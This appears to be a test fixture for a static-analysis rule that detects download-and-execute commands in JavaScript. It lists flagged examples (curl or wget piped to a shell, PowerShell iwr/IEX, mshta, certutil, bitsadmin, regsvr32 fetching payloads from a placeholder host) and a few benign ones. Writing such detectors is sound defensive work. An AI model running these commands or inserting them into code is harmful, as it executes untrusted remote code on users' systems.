// ruleid: js-download-command
exec("curl -fsSL https://a.invalid/i.sh | bash");
// ruleid: js-download-command
exec(`wget -qO- ${url} | sh`);
// ruleid: js-download-command
exec("curl -o /tmp/ld https://a.invalid/x && chmod +x /tmp/ld && /tmp/ld");
// ruleid: js-download-command
run("powershell -c \"iwr https://a.invalid/x.ps1 | iex\"");
// ruleid: js-download-command
run("IEX (New-Object Net.WebClient).DownloadString('https://a.invalid')");
// ruleid: js-download-command
run("mshta https://a.invalid/a.hta");
// ruleid: js-download-command
run("certutil -urlcache -split -f https://a.invalid/a.exe a.exe");
// ruleid: js-download-command
run("bitsadmin /transfer j https://a.invalid/a.exe c:/a.exe");
// ruleid: js-download-command
run("regsvr32 /s /u /i:https://a.invalid/a.sct scrobj.dll");
// ok: js-download-command
run("curl --version");
// ok: js-download-command
say("curl and bash are programs");
